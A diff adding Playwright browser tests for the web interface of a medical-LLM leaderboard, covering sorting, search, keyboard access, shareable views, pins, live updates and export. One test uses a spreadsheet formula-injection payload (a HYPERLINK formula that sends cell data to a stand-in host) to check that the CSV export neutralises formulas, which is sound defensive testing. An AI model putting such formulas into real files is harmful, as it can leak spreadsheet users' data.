@@ -1,0 +1,349 @@
+"""The board in a real Chromium."""
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from evalboard.records.table import SubjectColumn
+
+MakeRow = Callable[..., Any]
+
+
+def rows_of(page: Page) -> Locator:
+    return page.locator("board-table tbody tr[data-place]")
+
+
+def names(page: Page) -> list[str]:
+    return page.locator("board-table tbody .name").all_text_contents()
+
+
+def heads(page: Page) -> list[str | None]:
+    cells = page.locator("board-table thead th").all()
+    return [cell.get_attribute("data-key") for cell in cells]
+
+
+def open_menu(page: Page, name: str) -> None:
+    page.locator("board-table summary").filter(has_text=name).click()
+
+
+def saved(page: Page, label: str) -> tuple[str, str]:
+    """Return name and content of what a button of the download menu saves."""
+    open_menu(page, "Download")
+    with page.expect_download() as download:
+        page.get_by_role("button", name=label).click()
+    content = Path(download.value.path()).read_bytes().decode()
+    page.keyboard.press("Escape")
+    return download.value.suggested_filename, content
+
+
+def test_board_sorts_searches_and_stays_current(
+    page: Page, board_folder: Any, make_row: MakeRow, hostile_name: str
+) -> None:
+    best, middle = make_row("acme/best", 0.8), make_row("acme/middle", 0.6, pubmedqa=0.99)
+    part = make_row("beta/part", 0.7, lacks=["pubmedqa"])
+    hostile = make_row(hostile_name, 0.3, license=hostile_name, sender=hostile_name)
+    board_folder.write_board([hostile, part, middle, best])
+    page.goto("/")
+
+    rows = rows_of(page)
+    expect(rows).to_have_count(4)
+    assert names(page) == ["acme/best", "acme/middle", hostile_name, "beta/part"]
+    expect(rows.nth(3)).to_contain_text("incomplete 8/9")
+    expect(rows.nth(3).locator("td.pubmedqa")).to_have_text("—")
+    medmcqa = rows.nth(0).locator("td.medmcqa")
+    error = 100 * best["medmcqa__stderr"]
+    expect(medmcqa).to_have_text(f"{100 * best['medmcqa']:.1f} ±{error:.1f}")
+    says = f"MedMCQA: {100 * best['medmcqa']:.2f} %, standard error {error:.2f}, 4,183 questions"
+    expect(medmcqa).to_have_attribute("title", says)
+    link = page.get_by_role("link", name="acme/best", exact=True)
+    expect(link).to_have_attribute("href", "https://huggingface.co/acme/best")
+
+    page.get_by_role("button", name="PubMedQA").click()
+    assert names(page)[0] == "acme/middle"
+    assert names(page)[-1] == "beta/part"
+    expect(page.locator("th.pubmedqa")).to_have_attribute("aria-sort", "descending")
+    page.get_by_role("button", name="PubMedQA").click()
+    assert names(page) == [hostile_name, "acme/best", "acme/middle", "beta/part"]
+
+    search = page.get_by_role("searchbox")
+    search.fill("ACM ; @nonsense:x")
+    expect(rows).to_have_count(2)
+    expect(page.locator("board-table .count")).to_contain_text("2 of 4 models")
+    expect(page.locator("board-table mark")).to_have_text(["acm", "acm"])
+    expect(page.locator("board-table .hint")).to_have_text("There is no field “nonsense”.")
+
+    board_folder.write_board([best, middle, part, hostile, make_row("acme/new", 0.9)])
+    expect(rows).to_have_count(3)
+    search.fill("no such model")
+    page.get_by_role("button", name="Show all models").click()
+    expect(rows).to_have_count(5)
+
+    expect(page.locator("board-table img")).to_have_count(0)
+    expect(page).to_have_title("Open Medical-LLM Leaderboard")
+
+
+def test_a_group_opens_into_its_subjects_by_keyboard(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    subjects = {
+        "medmcqa": [
+            SubjectColumn(key="surgery", title="MedMCQA: surgery", n=369),
+            SubjectColumn(key="skin", title="MedMCQA: skin", n=17),
+        ]
+    }
+    rows = [
+        make_row("acme/best", 0.8, surgery=0.1, surgery__stderr=0.01, skin=0.9),
+        make_row("acme/other", 0.4, surgery=0.7, surgery__stderr=0.02, skin=0.2),
+    ]
+    board_folder.write_board(rows, subjects=subjects)
+    page.goto("/")
+    opener = page.get_by_role("button", name="2 subjects of MedMCQA")
+    expect(opener).to_have_attribute("aria-expanded", "false")
+    closed = heads(page)
+
+    page.get_by_role("button", name="MedMCQA", exact=True).focus()
+    page.keyboard.press("ArrowRight")
+    expect(opener).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(opener).to_have_attribute("aria-expanded", "true")
+    expect(opener).to_be_focused()
+    assert len(heads(page)) == len(closed) + 2
+    expect(page.locator("td.surgery")).to_have_text(["10.0 ±1.0", "70.0 ±2.0"])
+    expect(page.locator("td.surgery").first).to_have_attribute(
+        "title", "MedMCQA: surgery: 10.00 %, standard error 1.00, 369 questions"
+    )
+
+    page.get_by_role("button", name="MedMCQA: surgery").click()
+    assert names(page) == ["acme/other", "acme/best"]
+    board_folder.write_board([*rows, make_row("acme/new", 0.9, surgery=0.4)], subjects=subjects)
+    expect(rows_of(page)).to_have_count(3)
+    assert names(page) == ["acme/other", "acme/new", "acme/best"]
+
+    opener.click()
+    assert heads(page) == closed
+    expect(page.locator("th.medmcqa")).to_have_attribute("aria-sort", "descending")
+    assert names(page) == ["acme/new", "acme/best", "acme/other"]
+
+
+def test_only_rows_in_sight_are_drawn_and_arrow_keys_reach_all(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    board_folder.write_board([make_row(f"org/m{n}", 0.9 - n / 1000) for n in range(450)])
+    page.goto("/")
+    rows = rows_of(page)
+    expect(rows).not_to_have_count(0)
+    assert rows.count() < 80
+    grid = page.get_by_role("grid", name="Board")
+    expect(grid).to_have_attribute("aria-rowcount", "451")
+    assert page.locator("board-table table [tabindex='0']").count() == 1
+
+    head = page.get_by_role("button", name="Rank")
+    head.focus()
+    page.keyboard.press("ArrowDown")
+    expect(rows.first.locator("td.rank")).to_be_focused()
+    page.keyboard.press("ArrowLeft")
+    pin = page.get_by_role("button", name="Pin org/m", exact=False).first
+    expect(pin).to_be_focused()
+    page.keyboard.press("ArrowRight")
+    page.keyboard.press("ArrowRight")
+    expect(rows.first.locator("a.name")).to_be_focused()
+    page.keyboard.press("Control+End")
+    last = page.locator("tr[aria-rowindex='451']")
+    expect(last.locator("td").last).to_be_focused()
+    expect(last.locator("td.rank")).to_have_text("450")
+    expect(last).to_be_in_viewport()
+    fixed = last.locator("th.model").bounding_box()
+    assert fixed is not None
+    assert 0 < fixed["x"] < 300
+    page.keyboard.press("PageUp")
+    expect(last.locator("td").last).not_to_be_focused()
+    assert page.evaluate("document.activeElement.closest('tr').ariaRowIndex") is not None
+    page.keyboard.press("Control+Home")
+    page.keyboard.press("ArrowRight")
+    page.keyboard.press("Enter")
+    expect(page.locator("th.rank")).to_have_attribute("aria-sort", "descending")
+    expect(rows.first.locator("td.rank")).to_have_text("450")
+    expect(head).to_be_focused()
+
+
+def test_the_first_board_appears_in_an_open_page(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    page.goto("/")
+    expect(page.get_by_role("heading", name="No model on the board yet")).to_be_visible()
+    board_folder.write_board([make_row("acme/first", 0.5)])
+    expect(rows_of(page)).to_have_count(1)
+    expect(page.get_by_role("heading", name="No model on the board yet")).to_have_count(0)
+
+
+def test_a_link_shows_the_same_view_to_somebody_else(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    board_folder.write_board(
+        [
+            make_row("a/chat-small", 0.5, model_type="chat", params_billion=2.5),
+            make_row("a/chat-big", 0.9, model_type="chat", params_billion=70.0, medmcqa=0.3),
+            make_row("b/merge", 0.7, model_type="merge", params_billion=5.0, flags=["mixed_x"]),
+            make_row(
+                "c/chat-mid", 0.6, model_type="chat", params_billion=5.0, medmcqa__normalised=0.867
+            ),
+            make_row("d/chat-mid", 0.4, model_type="chat", params_billion=6.5, precision="4bit"),
+        ]
+    )
+    page.goto("/?lang=en")
+    rows = rows_of(page)
+    expect(rows).to_have_count(5)
+    page.get_by_role("button", name="Pin b/merge to the top").click()
+    page.get_by_role("button", name="Pin a/chat-small to the top").click()
+    expect(page.get_by_role("link", name="Compare the 2 pinned models")).to_be_visible()
+    page.get_by_role("button", name="3 to 7B").click()
+    open_menu(page, "Filters")
+    page.get_by_role("group", name="Type").get_by_label("chat").check()
+    page.keyboard.press("Escape")
+    open_menu(page, "Columns")
+    page.get_by_role("group", name="Exams").get_by_label("MedQA").uncheck()
+    page.get_by_label("Architecture").check()
+    page.keyboard.press("Escape")
+    open_menu(page, "Display")
+    page.get_by_label("normalised").check()
+    page.get_by_label("over the benchmarks shown").check()
+    page.get_by_label("among the rows that fit").check()
+    page.get_by_label("± standard error").uncheck()
+    page.keyboard.press("Escape")
+    page.get_by_role("button", name="MedMCQA").click()
+    page.get_by_role("searchbox").fill("chat;nothing")
+
+    def look() -> list[Any]:
+        count = page.locator("board-table .count").text_content()
+        sort = page.locator("th.medmcqa").get_attribute("aria-sort")
+        return [names(page), heads(page), rows.all_text_contents(), count, sort]
+
+    expect(page.locator("board-table mark")).to_have_count(3)
+    page.wait_for_url(re.compile("q=chat"))
+    before = look()
+    assert before[0] == ["b/merge", "a/chat-small", "c/chat-mid", "d/chat-mid"]
+    assert "architecture" in before[1]
+    assert "medqa_4options" not in before[1]
+    assert before[3].startswith("2 of 5 models")
+    assert before[4] == "descending"
+    assert "lang=en" in page.url
+    expect(rows.nth(2).locator("td.rank")).to_have_text("1")
+    expect(rows.nth(2).locator("td.medmcqa")).to_have_text("86.7")
+
+    address = page.url
+    page.goto("about:blank")
+    page.goto(address)
+    expect(rows).to_have_count(4)
+    assert look() == before
+    expect(page.get_by_role("searchbox")).to_have_value("chat;nothing")
+    expect(page.get_by_role("button", name="3 to 7B")).to_have_attribute("aria-pressed", "true")
+    expect(page.locator("summary").filter(has_text="Filters (2)")).to_be_visible()
+
+
+def test_a_pin_follows_its_model_when_ranks_move(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    old = [make_row("a/one", 0.9), make_row("a/two", 0.5), make_row("a/two", 0.4, precision="4bit")]
+    board_folder.write_board(old)
+    page.goto("/")
+    expect(rows_of(page)).to_have_count(3)
+    page.get_by_role("button", name="Pin a/two to the top").last.click()
+    pinned = page.locator("tbody.pinned tr")
+    expect(pinned.locator("td.precision")).to_have_text("4bit")
+    board_folder.write_board([*old, make_row("a/new", 0.7)])
+    expect(rows_of(page)).to_have_count(4)
+    expect(pinned.locator("td.precision")).to_have_text("4bit")
+    expect(pinned.locator("td.rank")).to_have_text("4")
+    page.get_by_role("button", name="Unpin all").click()
+    expect(pinned).to_have_count(0)
+
+
+def test_a_view_is_saved_as_csv_and_json_without_formulas(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    formula = '=HYPERLINK("http://x.test?"&A1,"click")/x'
+    board_folder.write_board([make_row(formula, 0.5, license="@SUM(1)"), make_row("b/b", 0.4)])
+    page.goto("/?sort=-medmcqa")
+    expect(rows_of(page)).to_have_count(2)
+    name, text = saved(page, "This view as CSV")
+    assert name == "open-medical-board.csv"
+    records = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert [record["model"] for record in records] == [f"'{formula}", "b/b"]
+    assert records[0]["license"] == "'@SUM(1)"
+    assert 0 < float(records[0]["medmcqa"]) < 1
+    assert float(records[0]["medmcqa__stderr"]) > 0
+    assert "pin" not in records[0]
+    name, text = saved(page, "This view as JSON")
+    assert name == "open-medical-board.json"
+    document = json.loads(text)
+    assert [row["model"] for row in document["rows"]] == [formula, "b/b"]
+    assert document["view"] == page.url
+
+
+def test_what_a_board_gains_appears_by_itself(
+    page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    board_folder.write_board([make_row("a/a", 0.5)])
+    page.goto("/?columns=medmcqa,hearts,energy_kwh,seconds,medmcqa__n,use_chat_template")
+    expect(rows_of(page)).to_have_count(1)
+    assert heads(page) == ["pin", "rank", "model", "average", "medmcqa", *heads(page)[5:]]
+    assert not {"hearts", "energy_kwh", "seconds"} & set(heads(page))
+    gained = {"hearts": 1200, "energy_kwh": 1.25, "seconds": 4000.0, "available": False}
+    board_folder.write_board([make_row("a/a", 0.5, use_chat_template=True, **gained)])
+    expect(page.locator("td.hearts")).to_have_text("1,200")
+    expect(page.locator("td.energy_kwh")).to_have_text("1.25 kWh")
+    expect(page.locator("td.seconds")).to_have_text("1 h 7 min")
+    expect(page.locator("td.medmcqa__n")).to_have_text("4,183")
+    expect(page.locator("td.use_chat_template")).to_have_text("yes")
+    open_menu(page, "Filters")
+    page.get_by_label("No longer available").check()
+    expect(page.get_by_role("heading", name="No model fits")).to_be_visible()
+
+
+_CONTRASTS = """() => {
+  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
+  const rgb = (colour) => {
+    canvas.fillStyle = colour;
+    canvas.fillRect(0, 0, 1, 1);
+    return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
+  };
+  const light = (colour) => {
+    const [r, g, b] = rgb(colour).map((part) => {
+      const share = part / 255;
+      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
+    });
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  const measured = {};
+  for (const cell of document.querySelectorAll("td.medmcqa[data-step]")) {
+    const ground = light(getComputedStyle(cell).backgroundColor);
+    const ratios = [...cell.querySelectorAll("span")].map((text) => {
+      const front = light(getComputedStyle(text).color);
+      return (Math.max(front, ground) + 0.05) / (Math.min(front, ground) + 0.05);
+    });
+    measured[cell.dataset.step] = [ground, Math.min(...ratios)];
+  }
+  return measured;
+}"""
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_colours_differ_in_lightness_and_leave_texts_readable(
+    theme: str, page: Page, board_folder: Any, make_row: MakeRow
+) -> None:
+    board_folder.write_board([make_row(f"a/m{n}", 0.5, medmcqa=n / 30) for n in range(31)])
+    page.goto(f"/?__theme={theme}&rows=compact")
+    expect(rows_of(page)).not_to_have_count(0)
+    measured = page.evaluate(_CONTRASTS)
+    assert sorted(measured) == [str(step) for step in range(9)]
+    grounds = [measured[str(step)][0] for step in range(9)]
+    assert sorted(grounds, reverse=theme == "light") == grounds
+    assert len(set(grounds)) == 9
+    assert min(ratio for _, ratio in measured.values()) >= 4.5
